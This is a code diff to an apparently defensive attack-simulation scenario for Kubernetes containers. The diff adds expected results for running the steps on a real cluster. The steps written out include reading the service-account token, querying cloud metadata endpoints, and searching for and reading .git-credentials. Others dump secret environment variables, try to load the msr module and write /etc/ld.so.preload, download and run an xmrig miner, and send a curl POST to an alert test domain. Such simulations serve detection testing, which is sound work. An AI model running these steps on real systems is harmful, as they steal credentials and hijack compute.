@@ -6,6 +6,12 @@ import type { Step, VictimKind } from "./scenario.ts";
 // the namespace, the miner is /bin/true.
 
 const tokenPath = "/var/run/secrets/kubernetes.io/serviceaccount/token";
+/** The header of every JSON web token. */
+const tokenBegins = "^eyJ";
+/** The name that Microsoft's simulation asks for, so that both can be run side by side. */
+const testDomainName = "mdc-eicar.alerts.security.azure.com";
+/** The service may answer, refuse, or not be there: 22 is curl's word for an error's status, 7 for no connection, 28 for too late. */
+const askedAnyway = { statuses: [0, 7, 22, 28, 52, 56] } as const;
 const metadata = `http://${addresses.metadata}`;
 const review = JSON.stringify({
   kind: "SelfSubjectAccessReview",
@@ -20,6 +26,7 @@ export const serviceAccountToken: Step = {
     succeeds,
     prints(({ secrets }) => secrets.token),
   ),
+  onCluster: { statuses: [0], prints: tokenBegins },
 };
 
 export const accessReview: Step = {
@@ -30,12 +37,19 @@ export const accessReview: Step = {
     `| grep -Po '"allowed": *\\K(true|false)'`,
   ].join(" "),
   missing: all(succeeds, prints("false")),
+  onCluster: { statuses: [0], prints: "^(true|false)$" },
 };
 
 export const portScan: Step = {
   name: "port scan",
   script: "nmap -Pn --open kubernetes.default/24 -p 443",
   missing: all(succeeds, prints("443/tcp open"), prints("256 IP addresses")),
+  onCluster: {
+    // Addresses behind which nobody is may hang there.
+    script: "timeout 20 nmap -Pn --open --max-retries 1 --host-timeout 3s kubernetes.default/24 -p 443",
+    statuses: [0, 124],
+    prints: "^Starting Nmap",
+  },
 };
 
 /** GET with a header, by curl or by busybox' wget (whose own -T ends it in a segmentation fault in Debian 12). */
@@ -54,6 +68,7 @@ export function googleMetadata(kind: VictimKind): Step {
       succeeds,
       prints(({ secrets }) => secrets.metadata),
     ),
+    onCluster: askedAnyway,
   };
 }
 
@@ -72,6 +87,7 @@ export function amazonMetadata(kind: VictimKind): Step {
       succeeds,
       prints(({ secrets }) => secrets.metadata),
     ),
+    onCluster: askedAnyway,
   };
 }
 
@@ -92,6 +108,7 @@ export function azureMetadata(kind: VictimKind): Step {
       prints("nowhere"),
       prints(({ secrets }) => secrets.metadata),
     ),
+    onCluster: askedAnyway,
   };
 }
 
@@ -100,6 +117,7 @@ export const searchGitCredentials: Step = {
   // find ends with a status of its own when it may not enter a folder, which a web server's user may not everywhere.
   script: "find / -path '*/.git-credentials' 2>/dev/null; true",
   missing: prints("/home/user/.git-credentials"),
+  onCluster: { prints: "^/home/user/[.]git-credentials$" },
 };
 
 export const gitCredentials: Step = {
@@ -109,6 +127,7 @@ export const gitCredentials: Step = {
     succeeds,
     prints(({ secrets }) => secrets.gitCredentials),
   ),
+  onCluster: { statuses: [0], prints: "@git[.]invalid$" },
 };
 
 export const tokenBeginning: Step = {
@@ -118,6 +137,7 @@ export const tokenBeginning: Step = {
     succeeds,
     prints(({ secrets }) => secrets.token.slice(0, 30)),
   ),
+  onCluster: { statuses: [0], prints: tokenBegins },
 };
 
 export const secretVariables: Step = {
@@ -127,6 +147,7 @@ export const secretVariables: Step = {
     succeeds,
     prints(({ secrets }) => secrets.variable),
   ),
+  onCluster: { statuses: [0], prints: "^AWS_SECRET_ACCESS_KEY=" },
 };
 
 export const msrModule: Step = {
@@ -134,12 +155,14 @@ export const msrModule: Step = {
   script: "/sbin/modprobe msr allow_writes=on",
   // 127: the image has no modprobe. 1 or 126: it has, and the container may not. Either way the attempt was made.
   missing: isRefused([1, 126, 127]),
+  onCluster: { statuses: [1, 126, 127] },
 };
 
 export const preloadFile: Step = {
   name: "ld.so.preload",
   script: "touch /etc/ld.so.preload",
   missing: all(isRefused([1], "etc/ld.so.preload"), prints("Permission denied")),
+  onCluster: { statuses: [1], prints: "Permission denied" },
 };
 
 export function downloadMiner(kind: VictimKind): Step {
@@ -148,6 +171,7 @@ export function downloadMiner(kind: VictimKind): Step {
     name: "miner download",
     script: kind === "debian" ? `curl -sO -m 10 ${url}` : `timeout 10 wget -q ${url}`,
     missing: all(succeeds, writes("var/www/html/xmrig")),
+    onCluster: { script: `curl -sO -m 10 ${url} && test -s xmrig`, statuses: [0] },
   };
 }
 
@@ -155,6 +179,25 @@ export const runMiner: Step = {
   name: "miner run",
   script: 'chmod +x xmrig && ./xmrig && echo "ran to its end"',
   missing: all(succeeds, prints("ran to its end")),
+  onCluster: { statuses: [0], prints: "^ran to its end$" },
 };
 
-export const whoAmI: Step = { name: "whoami", script: "whoami", plain: true, missing: prints("www-data") };
+export const whoAmI: Step = {
+  name: "whoami",
+  script: "whoami",
+  plain: true,
+  missing: prints("www-data"),
+  onCluster: { prints: "^www-data$" },
+};
+
+/**
+ * Asks for the name with a client whose command line does not hold it, so that only the question can give it away.
+ * Whether the name resolves, and whether anybody answers, is all the same: 0, or curl's words for "no such host",
+ * "no connection", "too late".
+ */
+export const testDomain: Step = {
+  name: "test domain",
+  script: `printf 'url = "http://%s?SendingData"\\n' ${testDomainName} | curl -s -m 10 -X POST -o /dev/null -K -`,
+  missing: isRefused([0, 6, 7, 28]),
+  onCluster: { statuses: [0, 6, 7, 22, 28, 52, 56] },
+};
